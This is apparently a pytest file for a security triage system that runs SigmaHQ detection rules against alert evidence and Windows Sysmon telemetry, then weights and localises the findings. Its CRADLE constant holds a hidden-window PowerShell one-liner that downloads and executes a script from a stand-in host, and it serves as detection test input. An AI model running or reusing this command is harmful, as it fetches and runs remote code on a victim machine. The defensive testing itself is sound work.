"""The SigmaHQ corpus in the verdict: the alert's own evidence and the host's telemetry around the alert are
read by the rules; a match is a reason that names the rule as published and credits its author; its level
says how much it weighs."""

from __future__ import annotations

import json
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

from flows.intake._service import Intake
from flows.models import Alert
from flows.notify._i18n import catalog
from flows.notify._story import _coded
from flows.settings import Settings
from flows.sigma import CREDIT, Rule, RuleSet
from flows.store import Store, event_row
from flows.tenants import Policy, Tenant
from flows.triage import MemoryTelemetry, StoreTelemetry, triage
from flows.triage._findings import Answers
from flows.triage._sigma import CAP, MAX_FINDINGS, sigma_answers

WHEN = datetime(2026, 11, 15, 9, 0, tzinfo=UTC)
CRADLE = (
    "powershell.exe -nop -w hidden -c IEX (New-Object Net.WebClient).DownloadString('http://x.example/a')"
)
CASES = Path(__file__).resolve().parents[1] / "fixtures" / "sigma" / "regression_data"


def _alert(**fields: Any) -> Alert:
    return Alert.model_validate(
        {
            "class_uid": 2004,
            "severity_id": 3,
            "time": int(WHEN.timestamp() * 1000),
            "metadata": {"tenant_uid": "acme", "product": {"name": "Some EDR"}},
            "finding_info": {"title": "Suspicious activity on WS-ACC-01"},
            "device": {"hostname": "WS-ACC-01"},
            **fields,
        }
    )


def _process(command: str, image: str, parent: str, when: datetime = WHEN) -> dict[str, Any]:
    return event_row(
        {
            "Event": {
                "System": {
                    "Provider": {"#attributes": {"Name": "Microsoft-Windows-Sysmon"}},
                    "EventID": 1,
                    "Channel": "Microsoft-Windows-Sysmon/Operational",
                    "Computer": "WS-ACC-01",
                    "TimeCreated": {"#attributes": {"SystemTime": when.isoformat()}},
                },
                "EventData": {"Image": image, "CommandLine": command, "ParentImage": parent},
            }
        },
        "acme",
    )


def _sigma(result: Any) -> list[Any]:
    return [r for r in result.verdict.reasons if r.code in ("sigma", "sigma_routine", "sigma_more")]


def test_the_alert_s_own_evidence_is_read_by_the_rules() -> None:
    alert = _alert(
        evidences=[
            {
                "process": {
                    "file": {"path": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"},
                    "cmd_line": CRADLE,
                },
                "actor": {"process": {"file": {"path": "C:\\Program Files\\Microsoft Office\\WINWORD.EXE"}}},
            }
        ]
    )

    result = triage([alert], [], Policy(), None, WHEN)

    named = {r.params["title"]: r for r in _sigma(result)}
    assert "PowerShell Download and Execution Cradles" in named
    cradle = named["PowerShell Download and Execution Cradles"]
    assert (
        cradle.params["level"] == "high" and cradle.params["author"] and cradle.params["host"] == "WS-ACC-01"
    )
    assert f"sigma:{cradle.params['rule']}" in cradle.sources and CREDIT in cradle.sources
    assert "hxxp://x[.]example" in cradle.finding and "http://" not in cradle.finding  # defanged
    assert result.verdict.verdict.value != "benign" and result.verdict.needs_analyst  # high: risky
    assert result.features["sigma"]["events"] == 1 and result.features["sigma"]["matched"][0]["in_alert"]


def test_telemetry_is_read_in_a_window_around_the_alert() -> None:
    powershell = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
    rows = [
        _process(
            CRADLE, powershell, "C:\\Windows\\explorer.exe", WHEN - timedelta(days=8)
        ),  # before the window
        _process(CRADLE, powershell, "C:\\Windows\\explorer.exe", WHEN + timedelta(days=2)),  # after it
    ]
    inside = _process(CRADLE, powershell, "C:\\Windows\\explorer.exe", WHEN - timedelta(days=6))

    outside = triage([_alert()], [], Policy(), MemoryTelemetry(rows), WHEN)
    within = triage([_alert()], [], Policy(), MemoryTelemetry([*rows, inside]), WHEN)

    assert _sigma(outside) == [] and outside.features["sigma"]["events"] == 0
    [*_, found] = [
        r for r in _sigma(within) if r.params["title"] == "PowerShell Download and Execution Cradles"
    ]
    assert found.params["count"] == 1 and found.params["when"] == "2026-11-09 09:00:00 UTC"


def _rule(level: str, number: int = 0) -> Rule:
    return Rule(
        id=f"00000000-0000-4000-8000-{number:012d}",
        title=f"Rule {number} ({level})",
        level=level,
        status="test",
        path="x.yml",
        requires=("product:windows", "category:process_creation"),
        tree=["leaf", "Image", "ew", "\\tool.exe", False],
        author="Garrison tests",
        tags=("attack.t1059",),
    )


def _answers(rules: list[Rule], **policy: Any) -> tuple[Answers, Any]:
    answers = Answers()
    row = _process("tool.exe /go", "C:\\tools\\tool.exe", "C:\\Windows\\explorer.exe")
    sigma_answers(answers, [_alert()], [row], WHEN, RuleSet(rules))
    from flows.triage._decide import decide

    return answers, decide(answers, Policy(**policy))


def test_a_level_says_how_much_a_match_weighs() -> None:
    critical, critical_verdict = _answers([_rule("critical")])
    high, high_verdict = _answers([_rule("high")])
    medium, medium_verdict = _answers([_rule("medium")], unknown_verdict="benign")
    shown, shown_verdict = _answers([_rule("informational")], unknown_verdict="benign")

    assert [(f.effect, f.risky, f.host_evidence) for f in critical.findings] == [(70, True, True)]
    assert critical_verdict.verdict.value == "malicious" and critical_verdict.needs_analyst
    assert [(f.effect, f.risky) for f in high.findings] == [(40, True)]
    assert high_verdict.verdict.value == "suspicious" and high_verdict.needs_analyst
    # medium and low: host evidence enough to stay suspicious even where unknown is benign
    assert [(f.effect, f.risky, f.host_evidence) for f in medium.findings] == [(40, False, True)]
    assert medium_verdict.verdict.value == "suspicious" and not medium_verdict.needs_analyst
    assert [(f.effect, f.host_evidence) for f in shown.findings] == [(0, False)]
    assert shown_verdict.verdict.value == "benign"


def test_many_matches_corroborate_up_to_a_cap_and_the_rest_are_named_in_one_reason() -> None:
    rules = [_rule("high", n) for n in range(MAX_FINDINGS + 3)]

    answers, _ = _answers(rules)

    told = [f for f in answers.findings if f.code == "sigma"]
    [rest] = [f for f in answers.findings if f.code == "sigma_more"]
    assert len(told) == MAX_FINDINGS and sum(f.effect for f in told) == CAP
    assert rest.params["count"] == 3 and len(rest.params["rules"]) == 3


def test_a_match_is_told_in_every_language_with_the_rule_title_as_published() -> None:
    answers, _ = _answers([_rule("high")])
    [finding] = answers.findings

    told = {
        language: _coded(catalog(language), finding.code, finding.params)
        for language in ("en", "zh-TW", "ja")
    }

    assert all(text and "Rule 0 (high)" in text and "Garrison tests" in text for text in told.values()), told
    assert told["ja"] != told["en"] != told["zh-TW"]


def test_windows_events_posted_as_telemetry_reach_the_verdict_from_the_store(
    settings: Settings, store: Store
) -> None:
    case = CASES / "rules" / "windows" / "process_creation" / "proc_creation_win_bitsadmin_download"
    [capture] = case.glob("*.json")
    decoder, text, position, documents = json.JSONDecoder(), capture.read_text(), 0, []
    while text[position:].strip():
        while text[position].isspace():
            position += 1
        document, position = decoder.raw_decode(text, position)
        documents.append(document)
    report = Intake(store).accept_events(Tenant(id="acme", name="ACME"), list(enumerate(documents, start=1)))
    system = documents[-1]["Event"]["System"]
    stamp = datetime.fromisoformat(system["TimeCreated"]["#attributes"]["SystemTime"].replace("Z", "+00:00"))
    alert = _alert(device={"hostname": system["Computer"]}, time=int(stamp.timestamp() * 1000))

    result = triage([alert], [], Policy(), StoreTelemetry(store.engine), stamp)

    assert report.events_stored == len(documents) and not report.rejected
    rule_id = case.joinpath("info.yml").read_text().split("- id: ")[1].split()[0]
    assert rule_id in {r.params.get("rule") for r in _sigma(result)}
